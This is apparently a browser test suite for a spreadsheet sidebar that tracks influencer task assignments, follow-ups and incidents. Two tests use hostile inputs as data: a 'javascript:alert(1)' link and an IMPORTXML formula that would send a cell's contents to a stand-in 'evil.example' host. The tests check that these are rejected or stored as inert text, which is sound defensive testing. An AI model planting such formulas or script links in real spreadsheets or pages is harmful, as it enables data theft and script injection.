/**
 * The sidebar in Chromium against the emulated demo workbook: the assign flow from task to
 * reviewed result, a decline, a follow-up, an incident logged and resolved, the Today list, a bad
 * field that keeps every typed value, and a formula typed in a field stored as text.
 */
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoSidebar, type OpenedPage, openSidebarPage, type SidebarFixture, settled, sheetRecords } from '../helpers/browser';

let fx: SidebarFixture;
let opened: OpenedPage;
let page: Page;

beforeAll(async () => {
  fx = await demoSidebar();
  opened = await openSidebarPage(fx.url);
  page = opened.page;
});

afterAll(async () => {
  await opened?.close();
  await fx?.close();
});

const card = (id: string): Locator => page.locator(`li[data-assignment="${id}"]`);

async function pickTask(taskId: string): Promise<void> {
  await page.getByRole('tab', { name: /Assign/ }).click();
  await page.getByLabel('Task', { exact: true }).selectOption(taskId);
  await settled(page);
  await page.getByRole('heading', { name: /KOCs that fit/ }).waitFor();
}

/** Offer the task to the ranked KOC at `index`; returns the new assignment ID and the KOC's name. */
async function offerTo(index: number): Promise<{ id: string; name: string }> {
  const row = page.locator('li.ranked').nth(index);
  const name = ((await row.locator('label.name').textContent()) ?? '').trim();
  await row.getByRole('checkbox').check();
  await page.getByRole('button', { name: 'Offer to 1 selected' }).click();
  await settled(page);
  const status = page.getByRole('status').filter({ hasText: /Offered 1:/ });
  const text = (await status.textContent()) ?? '';
  const id = /A-\d{8}-[0-9A-F]{6}/.exec(text)![0];
  await card(id).waitFor();
  return { id, name };
}

async function step(id: string, button: string, expected: string): Promise<void> {
  await card(id).getByRole('button', { name: button, exact: true }).click();
  await settled(page);
  await expect.poll(() => card(id).locator('.badge').first().textContent()).toBe(expected);
}

describe('sidebar flows', () => {
  it('renders the first page from one round trip', async () => {
    expect(fx.host.log.filter((r) => r.name === 'getSidebarState')).toHaveLength(1);
    expect(await page.getByRole('tab', { name: /Assign/ }).getAttribute('aria-selected')).toBe('true');
    expect(await page.getByLabel('Task', { exact: true }).locator('option').count()).toBeGreaterThan(3);
  });

  it('assigns a task and moves it from offered to reviewed with results and quality', async () => {
    await pickTask('T-001');
    // Ranked KOCs say why they fit.
    expect(await page.locator('li.ranked').count()).toBeGreaterThan(0);
    await expect.poll(() => page.locator('li.ranked .why').first().textContent()).toMatch(/Why: /);
    const calls = fx.host.log.length;
    const { id } = await offerTo(0);
    expect(fx.host.log.length - calls).toBe(1); // one action, one round trip
    expect(await card(id).locator('.badge').first().textContent()).toBe('Offered');

    await step(id, 'Accepted', 'Accepted');
    await step(id, 'Submitted', 'Submitted');
    await card(id).getByLabel('Content URL').fill('https://www.xiaohongshu.com/explore/abc123');
    await card(id).getByRole('button', { name: 'Mark published' }).click();
    await settled(page);
    await expect.poll(() => card(id).locator('.badge').first().textContent()).toBe('Published');
    expect(await card(id).getByRole('link').getAttribute('href')).toBe('https://www.xiaohongshu.com/explore/abc123');

    await card(id).getByLabel('Likes').fill('1.2万');
    await card(id).getByLabel('Collects').fill('3.4k');
    await card(id).getByLabel('Comments').fill('210');
    await card(id).getByLabel('GMV').fill('3,000');
    await card(id).getByRole('button', { name: 'Save results' }).click();
    await settled(page);
    await card(id).getByRole('status').filter({ hasText: 'Saved.' }).waitFor();

    await card(id).getByLabel('Quality (1–5)').selectOption('4');
    await card(id).getByRole('button', { name: 'Mark reviewed' }).click();
    await settled(page);
    await expect.poll(() => card(id).locator('.badge').first().textContent()).toBe('Reviewed');

    const row = sheetRecords(fx.emulator, 'Assignments').find((r) => r['Assignment ID'] === id)!;
    expect(row).toMatchObject({ 'Task ID': 'T-001', Status: 'Reviewed', 'Content URL': 'https://www.xiaohongshu.com/explore/abc123', Likes: 12000, Collects: 3400, Comments: 210, GMV: 3000, Quality: 4 });
    expect(row.Offered).toBeInstanceOf(Date);
    // A final status offers no further step; only late results may still be added.
    expect(await card(id).getByRole('button').allInnerTexts()).toEqual(['Save results']);
  });

  it('records a decline with its reason, and the KOC is then left out of the task', async () => {
    await pickTask('T-001');
    const { id, name } = await offerTo(0);
    await card(id).getByRole('button', { name: 'Declined…' }).click();
    // No reason: the field says so and nothing is written.
    await card(id).getByRole('button', { name: 'Record decline' }).click();
    await settled(page);
    await card(id).getByText('Say why the KOC declined').waitFor();
    expect(sheetRecords(fx.emulator, 'Assignments').find((r) => r['Assignment ID'] === id)!.Status).toBe('Offered');

    await card(id).getByLabel('Reason for declining').fill('Busy with exams this month');
    await card(id).getByRole('button', { name: 'Record decline' }).click();
    await settled(page);
    await expect.poll(() => card(id).locator('.badge').first().textContent()).toBe('Declined');
    const row = sheetRecords(fx.emulator, 'Assignments').find((r) => r['Assignment ID'] === id)!;
    expect(row.Status).toBe('Declined');
    expect(String(row.Notes)).toContain('Busy with exams this month');

    await pickTask('T-002');
    await pickTask('T-001');
    await page.locator('details.excluded summary').click();
    const left = page.locator('details.excluded li').filter({ hasText: name });
    await expect.poll(() => left.textContent()).toContain('declined this task before');
  });

  it('logs a follow-up and an incident, suggests the next step, and resolves the incident', async () => {
    await page.getByRole('tab', { name: /Follow up/ }).click();
    await page.getByLabel('Find a KOC (name or ID)').fill('护肤');
    await page.getByRole('button', { name: 'Search' }).click();
    await settled(page);
    const first = page.getByRole('list', { name: 'Search results' }).getByRole('button').first();
    const name = ((await first.textContent()) ?? '').trim();
    await first.click();
    await settled(page);
    await page.locator('#profile-name').filter({ hasText: name }).waitFor();
    const kocId = ((await page.locator('#profile-name .muted').textContent()) ?? '').trim();

    await page.getByLabel('Channel').selectOption('phone');
    await page.getByLabel('Type', { exact: true }).selectOption('objection');
    await page.getByLabel('Summary').fill('Unhappy with the sample size; promised a full-size bottle.');
    await page.getByLabel('Sentiment').selectOption('negative');
    await page.locator('#fu-next').fill('2026-11-26');
    await page.getByRole('button', { name: 'Save contact' }).click();
    await settled(page);
    await page.locator('.suggestion').waitFor();
    expect(await page.locator('.suggestion').textContent()).toMatch(/Suggested next step: Follow up soon/);
    await page.locator('.profile .notes').filter({ hasText: 'Unhappy with the sample size' }).first().waitFor();
    const fu = sheetRecords(fx.emulator, 'Follow-ups').at(-1)!;
    expect(fu).toMatchObject({ 'KOC ID': kocId, Channel: 'Phone', Type: 'Objection', Sentiment: 'Negative', Summary: 'Unhappy with the sample size; promised a full-size bottle.' });
    expect(fu['Next follow-up']).toBeInstanceOf(Date);
    // The form is cleared after a save.
    expect(await page.getByLabel('Summary').inputValue()).toBe('');

    await page.getByLabel('Severity').selectOption('high');
    await page.getByLabel('Kind').selectOption('negative');
    await page.getByLabel('Description').fill('Posted a negative review of the serum texture.');
    await page.getByRole('button', { name: 'Save incident' }).click();
    await settled(page);
    await expect.poll(() => page.locator('.suggestion').textContent()).toMatch(/Handle the incident first/);
    const incident = sheetRecords(fx.emulator, 'Incidents').at(-1)!;
    expect(incident).toMatchObject({ 'KOC ID': kocId, Severity: 'High', Kind: 'Negative content', Status: 'Open' });
    const incidentId = String(incident['Incident ID']);
    const item = page.locator('.profile li').filter({ hasText: 'Posted a negative review of the serum texture.' });
    await item.getByLabel('Resolution').fill('Called her; sent a lighter formula; she updated the post.');
    await item.getByRole('button', { name: 'Resolve' }).click();
    await settled(page);
    await expect.poll(() => page.locator('.profile li').filter({ hasText: 'Posted a negative review' }).count()).toBe(0);
    const resolved = sheetRecords(fx.emulator, 'Incidents').find((r) => r['Incident ID'] === incidentId)!;
    expect(resolved).toMatchObject({ Status: 'Resolved', Resolution: 'Called her; sent a lighter formula; she updated the post.' });
    expect(resolved.Resolved).toBeInstanceOf(Date);
  });

  it("moves a KOC's open task on from the profile card", async () => {
    const offer = sheetRecords(fx.emulator, 'Assignments').find((r) => r.Status === 'Offered')!;
    const id = String(offer['Assignment ID']);
    const task = sheetRecords(fx.emulator, 'Tasks').find((r) => r['Task ID'] === offer['Task ID'])!;
    await page.getByRole('tab', { name: /Follow up/ }).click();
    await page.getByLabel('Find a KOC (name or ID)').fill(String(offer['KOC ID']));
    await page.getByRole('button', { name: 'Search' }).click();
    await settled(page);
    await page.getByRole('list', { name: 'Search results' }).getByRole('button').first().click();
    await settled(page);
    const item = page.locator(`.profile li[data-assignment="${id}"]`);
    await item.waitFor();
    // Headed by the task here (the profile is already the KOC's).
    expect((await item.locator('.name').textContent())?.trim()).toBe(String(task.Title));
    await item.getByRole('button', { name: 'Accepted', exact: true }).click();
    await settled(page);
    await expect.poll(() => item.locator('.badge').first().textContent()).toBe('Accepted');
    await item.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
    const after = sheetRecords(fx.emulator, 'Assignments').find((r) => r['Assignment ID'] === id)!;
    expect(after.Status).toBe('Accepted');
    expect(after.Responded).toBeInstanceOf(Date);
    // The next step is offered on the same card.
    await item.getByRole('button', { name: 'Submitted', exact: true }).waitFor();
  });

  it('shows the Today list, each line one click from its KOC', async () => {
    const today = fx.host.call('getTodayList', [{}]);
    if (!today.ok) throw new Error(today.error.message);
    const list = (today.value as { data: { overdue: { kocId: string; kocName: string }[]; incidents: unknown[]; staleOffers: unknown[] } }).data;
    expect(list.overdue.length).toBeGreaterThan(0);
    await page.getByRole('tab', { name: /Today/ }).click();
    await page.getByRole('button', { name: 'Refresh' }).click();
    await settled(page);
    const overdue = page.locator('section[aria-labelledby="today-overdue"]');
    for (const f of list.overdue.slice(0, 5)) await overdue.getByText(f.kocId, { exact: true }).waitFor();
    expect(await overdue.locator('li').count()).toBe(list.overdue.length);
    expect(await page.locator('section[aria-labelledby="today-incidents"] li').count()).toBe(list.incidents.length);
    expect(await page.locator('section[aria-labelledby="today-offers"] li').count()).toBe(list.staleOffers.length);

    // First contacts: a group of their own; the card names the date as the first contact's deadline.
    const { firstContacts, firstContactCount } = (today.value as { data: { firstContacts: { kocId: string; kocName: string }[]; firstContactCount: number } }).data;
    expect(firstContacts.length).toBeGreaterThan(0);
    await page.getByRole('tab', { name: /Today/ }).click();
    const first = page.locator('section[aria-labelledby="today-first"]');
    expect(await first.locator('li').count()).toBe(firstContacts.length + (firstContactCount > firstContacts.length ? 1 : 0));
    const newcomer = firstContacts[0];
    await first.getByRole('button', { name: `Open ${newcomer.kocName || newcomer.kocId}` }).click();
    await settled(page);
    await page.locator('#profile-name').filter({ hasText: newcomer.kocId }).waitFor();
    await page.locator('dt').filter({ hasText: 'First contact by' }).waitFor();
    await page.getByRole('tab', { name: /Today/ }).click();

    const target = list.overdue[0];
    await overdue.getByRole('button', { name: `Open ${target.kocName || target.kocId}` }).click();
    await settled(page);
    expect(await page.getByRole('tab', { name: /Follow up/ }).getAttribute('aria-selected')).toBe('true');
    await page.locator('#profile-name').filter({ hasText: target.kocId }).waitFor();
  });

  it('shows a bad field beside it and keeps every typed value', async () => {
    await page.getByRole('tab', { name: /Follow up/ }).click();
    await page.locator('#profile-name').waitFor();
    const before = sheetRecords(fx.emulator, 'Follow-ups').length;
    await page.locator('#fu-date').fill('2026-11-20');
    await page.getByLabel('Channel').selectOption('meeting');
    await page.getByLabel('Type', { exact: true }).selectOption('feedback');
    await page.getByLabel('Summary').fill('Reviewed her draft together; she will reshoot the cover.');
    await page.getByLabel('Sentiment').selectOption('positive');
    await page.locator('#fu-next').fill('2026-11-10');
    await page.getByRole('button', { name: 'Save contact' }).click();
    await settled(page);
    const error = page.locator('#fu-next-error');
    await error.waitFor();
    expect(await error.textContent()).toBe('The next follow-up cannot be before the contact date');
    expect(await page.locator('#fu-next').getAttribute('aria-invalid')).toBe('true');
    expect(await page.locator('#fu-next').getAttribute('aria-describedby')).toBe('fu-next-error');
    expect(await page.locator('#fu-date').inputValue()).toBe('2026-11-20');
    expect(await page.getByLabel('Channel').inputValue()).toBe('meeting');
    expect(await page.getByLabel('Type', { exact: true }).inputValue()).toBe('feedback');
    expect(await page.getByLabel('Summary').inputValue()).toBe('Reviewed her draft together; she will reshoot the cover.');
    expect(await page.getByLabel('Sentiment').inputValue()).toBe('positive');
    expect(await page.locator('#fu-next').inputValue()).toBe('2026-11-10');
    expect(sheetRecords(fx.emulator, 'Follow-ups')).toHaveLength(before);

    // Fixing the field saves with everything else as typed.
    await page.locator('#fu-next').fill('2026-11-27');
    await page.getByRole('button', { name: 'Save contact' }).click();
    await settled(page);
    await expect.poll(() => sheetRecords(fx.emulator, 'Follow-ups').length).toBe(before + 1);
    expect(sheetRecords(fx.emulator, 'Follow-ups').at(-1)).toMatchObject({ Channel: 'Meeting', Type: 'Feedback', Sentiment: 'Positive' });
  });

  it('keeps typed results when one of them is not a number', async () => {
    await pickTask('T-001');
    const { id } = await offerTo(0);
    await step(id, 'Accepted', 'Accepted');
    await step(id, 'Submitted', 'Submitted');
    await card(id).getByLabel('Content URL').fill('javascript:alert(1)');
    await card(id).getByRole('button', { name: 'Mark published' }).click();
    await settled(page);
    await card(id).getByText('A link starting with http:// or https://').waitFor();
    expect(await card(id).getByLabel('Content URL').inputValue()).toBe('javascript:alert(1)');
    await card(id).getByLabel('Content URL').fill('https://v.douyin.com/xyz/');
    await card(id).getByRole('button', { name: 'Mark published' }).click();
    await settled(page);
    await expect.poll(() => card(id).locator('.badge').first().textContent()).toBe('Published');
    await card(id).getByLabel('Likes').fill('800');
    await card(id).getByLabel('Shares').fill('lots');
    await card(id).getByLabel('Orders').fill('12');
    await card(id).getByRole('button', { name: 'Save results' }).click();
    await settled(page);
    await card(id).locator(`#koc-${id}-shares-error`).waitFor();
    expect(await card(id).getByLabel('Likes').inputValue()).toBe('800');
    expect(await card(id).getByLabel('Shares').inputValue()).toBe('lots');
    expect(await card(id).getByLabel('Orders').inputValue()).toBe('12');
    expect(sheetRecords(fx.emulator, 'Assignments').find((r) => r['Assignment ID'] === id)!.Likes).toBe('');
  });

  it('stores a formula typed in a field as text, never as a formula', async () => {
    const formula = '=IMPORTXML("https://evil.example/steal?d="&A1,"//a")';
    await page.getByRole('tab', { name: /Follow up/ }).click();
    await page.getByLabel('Summary').fill(formula);
    await page.getByRole('button', { name: 'Save contact' }).click();
    await settled(page);
    await expect.poll(() => sheetRecords(fx.emulator, 'Follow-ups').at(-1)!.Summary).toBe(formula);
    const sheet = fx.emulator.spreadsheet.getSheetByName('Follow-ups')!;
    const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0];
    const cell = sheet.getRange(sheet.getLastRow(), header.indexOf('Summary') + 1);
    expect(cell.getFormula()).toBe('');
    expect(cell.getValue()).toBe(formula);
    await page.locator('.profile .notes').filter({ hasText: formula }).first().waitFor();
  });

  it('keeps Today and the Assign tab current after writes, in the same round trip, and focus where the user is', async () => {
    const todayCount = async () => Number(await page.getByRole('tab', { name: /Today/ }).locator('.count').textContent());
    const list = fx.host.call('getTodayList', [{}]);
    if (!list.ok) throw new Error(list.error.message);
    const target = (list.value as { data: { overdue: { kocId: string; kocName: string }[] } }).data.overdue[0];
    await page.getByRole('tab', { name: /Today/ }).click();
    await page.getByRole('button', { name: 'Refresh' }).click();
    await settled(page);
    const before = await todayCount();
    await page.locator('section[aria-labelledby="today-overdue"]').getByRole('button', { name: `Open ${target.kocName || target.kocId}` }).click();
    await settled(page);
    // The opened profile has the focus (not the page), so keyboard and screen-reader users are there.
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('profile-name');

    await page.getByLabel('Channel').selectOption('wechat');
    await page.getByLabel('Summary').fill('Caught up; content plan agreed.');
    await page.locator('#fu-next').fill('2026-12-20');
    const calls = fx.host.log.length;
    await page.getByRole('button', { name: 'Save contact' }).click();
    await settled(page);
    await page.locator('.profile .notes').filter({ hasText: 'Caught up; content plan agreed.' }).first().waitFor();
    expect(fx.host.log.length - calls).toBe(1);
    // Today followed in that one answer: one overdue line fewer, without Refresh.
    await expect.poll(todayCount).toBe(before - 1);
    await page.getByRole('tab', { name: /Today/ }).click();
    expect(await page.locator('section[aria-labelledby="today-overdue"]').getByRole('button', { name: `Open ${target.kocName || target.kocId}` }).count()).toBe(0);

    // A decline on the Assign tab frees its slot there and then.
    await pickTask('T-001');
    const filled = async () => Number(/(\d+) of \d+ filled/.exec((await page.locator('.card').first().textContent()) ?? '')?.[1]);
    const { id } = await offerTo(0);
    const withOffer = await filled();
    await card(id).getByRole('button', { name: 'Declined…', exact: true }).click();
    await card(id).getByLabel('Reason for declining').fill('Busy this month.');
    await card(id).getByRole('button', { name: 'Record decline' }).click();
    await settled(page);
    await expect.poll(() => card(id).locator('.badge').first().textContent()).toBe('Declined');
    await expect.poll(filled).toBe(withOffer - 1);
  });

  it('raised no page errors and opened no dialogs', () => {
    expect(opened.pageErrors).toEqual([]);
    expect(opened.dialogs).toEqual([]);
  });
});
